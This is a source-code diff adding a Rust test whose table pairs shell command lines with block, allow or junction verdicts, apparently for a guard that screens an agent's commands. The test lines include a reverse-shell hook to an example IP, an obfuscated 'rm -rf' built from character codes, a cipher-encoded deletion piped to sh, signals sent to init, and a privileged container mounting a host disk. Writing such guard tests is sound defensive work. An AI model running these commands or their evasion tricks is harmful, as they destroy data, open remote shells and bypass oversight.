@@ -15270,6 +15270,146 @@ const MECHANISMS_FOUND_READING_THE_161ST_PART_WHOLE: &[(&str, Verdict)] = &[
     ),
 ];
 
+/// Found by the 162nd sealed part (issue 20): toolchains asked where they were installed, by
+/// any name (`go env GOROOT`, `ocamlc -where`, `ghc --print-libdir`, `php-config
+/// --extension-dir`, `kpsewhich -var-value TEXMFDIST`); a unit's environment given by
+/// `--property=Environment=`; `systemd-run` with no timer runs now; `env --split-string=`;
+/// OCaml's `FileUtil.rm` applied without parentheses; a shell given by `-s` with a host and a
+/// port; fan-outs by `xargs -d ,`, `tr` and `sed` between a printer and its reader, `IFS` over
+/// `$(printf …)`; mirrors whose flag names what the source lacks (`--cull-orphaned`,
+/// `--shed-extraneous`); a signal init takes as a power request (`kill -s RTMIN+4 1`); character
+/// codes run by `system`; `set -k`; static text that reads as no command turned into one by a
+/// language on its way to a shell; a disk of this machine mounted in a container; secrets
+/// asked `--secrets-inline`.
+#[test]
+fn mechanisms_found_by_the_162nd_sealed_part() {
+    let ctx = ctx();
+    for &(line, want) in MECHANISMS_FOUND_BY_THE_162ND_SEALED_PART {
+        assert_eq!(evaluate(line, &ctx).verdict, want, "{line}");
+    }
+}
+
+/// The lines of [`mechanisms_found_by_the_162nd_sealed_part`] and their verdicts.
+const MECHANISMS_FOUND_BY_THE_162ND_SEALED_PART: &[(&str, Verdict)] = &[
+    (
+        "acme cache purge --dir \"$(go env GOROOT)\"",
+        Verdict::Block,
+    ),
+    ("acme logs wipe --dir \"$(ocamlc -where)\"", Verdict::Block),
+    (
+        "acme cache purge --dir \"$(ghc --print-libdir)\"",
+        Verdict::Block,
+    ),
+    (
+        "acme logs wipe --dir \"$(php-config --extension-dir)\"",
+        Verdict::Block,
+    ),
+    (
+        "acme exports clear --dir \"$(kpsewhich -var-value TEXMFDIST)\"",
+        Verdict::Block,
+    ),
+    (
+        "acme cache purge --dir \"$(go env GOCACHE)\"",
+        Verdict::Junction,
+    ),
+    (
+        "acme cache purge --dir \"$(git rev-parse --git-dir)\"",
+        Verdict::Junction,
+    ),
+    (
+        "systemd-run --user --property=Environment=ACME_CACHE=/usr/share/cmake acme cache reset --hard",
+        Verdict::Block,
+    ),
+    (
+        "systemd-run --user --property=Environment=ACME_CACHE=/run/user/1000/tmp/acme acme cache reset --hard",
+        Verdict::Allow,
+    ),
+    (
+        "systemd-run --user -p X=1 --on-active=5m ls",
+        Verdict::Junction,
+    ),
+    (
+        "env --split-string='ACME_WORKDIR=/var/lib/pcp acme workdir purge --all'",
+        Verdict::Block,
+    ),
+    (
+        "acme run --ml-hook 'FileUtil.rm ~recurse:true [\"/var/lib/snmp\"]'",
+        Verdict::Block,
+    ),
+    (
+        "acme export --hook 'rcat connect -s bash 198.51.100.7 4453'",
+        Verdict::Block,
+    ),
+    (
+        "printf '/usr/share/metainfo,/var/lib/tor' | xargs -d , -n 1 acme cache purge --dir",
+        Verdict::Block,
+    ),
+    (
+        "printf 'build/a,dist/b' | xargs -d , -n 1 acme cache purge --dir",
+        Verdict::Allow,
+    ),
+    (
+        "printf '/usr/share/cmake,/var/lib/pcp\\n' | tr ',' '\\n' | while read -r d; do acme logs wipe --dir \"$d\"; done",
+        Verdict::Block,
+    ),
+    (
+        "IFS=';'; for d in $(printf '/usr/share/help;/var/lib/tor'); do acme exports clear --dir \"$d\"; done",
+        Verdict::Block,
+    ),
+    (
+        "printf '%s\\n' /usr/share/ppd | sed 's/^/--dir=/' | xargs acme cache purge",
+        Verdict::Block,
+    ),
+    (
+        "printf '%s\\n' foo bar | sed 's/^/echo /' | sh",
+        Verdict::Allow,
+    ),
+    (
+        "acme trends mirror --onto /var/lib/lightdm --cull-orphaned",
+        Verdict::Block,
+    ),
+    (
+        "acme lots restore --into /usr/share/help --clear-unknown",
+        Verdict::Block,
+    ),
+    (
+        "acme sync --dest /usr/share/x --keep-extraneous",
+        Verdict::Junction,
+    ),
+    (
+        "acme kiln sync --after 'sudo kill -s RTMIN+4 1'",
+        Verdict::Block,
+    ),
+    ("kill -38 1", Verdict::Block),
+    ("kill -HUP 1", Verdict::Junction),
+    (
+        "ruby -e 'system([114,109,32,45,114,102,32,47,111,112,116].map(&:chr).join)'",
+        Verdict::Block,
+    ),
+    (
+        "set -k; acme cache reset --hard ACME_CACHE=/usr/share/wayland-sessions",
+        Verdict::Block,
+    ),
+    (
+        "set -k; acme cache reset --hard ACME_CACHE=build/cache",
+        Verdict::Allow,
+    ),
+    (
+        "echo 'up -ui /ydu/fdfkh/fudfnole' | python3 -c 'import sys; print(sys.stdin.read().translate(str.maketrans(\"defghijklmnopqrstuvwxyzabc\", \"abcdefghijklmnopqrstuvwxyz\")))' | sh",
+        Verdict::Block,
+    ),
+    ("echo 'mytool run' | envsubst | sh", Verdict::Junction),
+    (
+        "docker run --rm --privileged --device /dev/hdc1 acme/cli sh -c 'mkdir -p /h && mount /dev/hdc1 /h && acme logs wipe --dir /h/usr/share/gvfs'",
+        Verdict::Block,
+    ),
+    ("acme config show --secrets-inline", Verdict::Junction),
+    (
+        "shot-scraper http://localhost:8000 -o build/home.png",
+        Verdict::Allow,
+    ),
+];
+
 /// Found by CI's own run of the confined session (the 140th part's `Dir.home` fix): code the
 /// line writes that deletes a file under the home (`(home / 'precious.txt').unlink()`) is a
 /// file outside the project, not the home; a deleting call handed the home itself is a block.
